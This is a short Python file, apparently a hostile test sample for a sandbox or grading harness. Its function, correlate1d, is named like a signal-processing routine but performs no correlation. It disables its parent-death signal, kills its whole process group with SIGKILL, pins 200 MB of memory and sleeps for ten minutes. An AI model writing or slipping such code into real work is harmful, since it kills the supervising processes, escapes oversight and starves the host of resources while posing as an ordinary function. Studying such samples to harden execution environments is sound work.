"""Forgets its parent-death signal, kills the parent that waits outside, and stays, with much memory."""

import ctypes
import os
import signal
import time

PR_SET_PDEATHSIG = 1


def correlate1d(signal_, kernel):
    ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    os.kill(0, signal.SIGKILL)
    held = bytearray(200 * 1024 * 1024)
    held[::4096] = bytes(len(held[::4096])).replace(b"\0", b"\1")
    time.sleep(600)
